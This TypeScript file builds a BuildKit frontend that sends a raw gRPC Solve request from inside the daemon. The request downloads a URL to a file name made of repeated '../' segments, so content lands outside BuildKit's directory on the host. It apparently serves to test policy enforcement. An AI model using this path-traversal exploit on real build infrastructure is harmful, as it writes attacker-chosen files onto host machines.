import { createHash } from 'node:crypto';
import { bridgeSolveRequest } from '../../../shared/policy/buildkit-messages.ts';
import { op } from '../../../shared/policy/llb-messages.ts';
import { encoded } from '../../../shared/policy/protobuf-plain.ts';
import { archive } from '../attempt.ts';
import { callBytes, connectionPreface } from './grpc-bytes.ts';

/**
 * A frontend is an image that BuildKit runs to convert a Dockerfile to steps. It requests them from BuildKit
 * over its stdin and stdout, inside the daemon: no gateway sees them. This one requests a download whose file
 * name leads out of BuildKit's directory.
 */

/**
 * The frontend's build context, as an archive: the content of `url` is to be written to `file` of the
 * machine.
 */
export function frontendContext(url: string, file: string): Buffer {
  const call = Buffer.concat([
    connectionPreface(),
    callBytes(1, '/moby.buildkit.v1.frontend.LLBBridge/Solve', download(url, file)),
  ]);
  // Sends its call, and waits until the response has begun: it comes after 61 bytes of settings.
  const command = JSON.stringify(['sh', '-c', 'base64 -d /call; timeout 20 head -c 100 >/dev/null']);
  const dockerfile = `FROM busybox\nCOPY call /call\nENTRYPOINT ${command}\n`;
  return archive({ Dockerfile: dockerfile, call: call.toString('base64') });
}

function download(url: string, file: string): Uint8Array {
  const attrs = { 'http.filename': `${'../'.repeat(20)}${file}` };
  const source = encoded(op, { source: { identifier: url, attrs } });
  const digest = `sha256:${createHash('sha256').update(source).digest('hex')}`;
  const result = encoded(op, { inputs: [{ digest }] });
  return encoded(bridgeSolveRequest, {
    Definition: { def: [source, result] },
    allowResultReturn: true,
    allowResultArrayRef: true,
    Evaluate: true,
  });
}
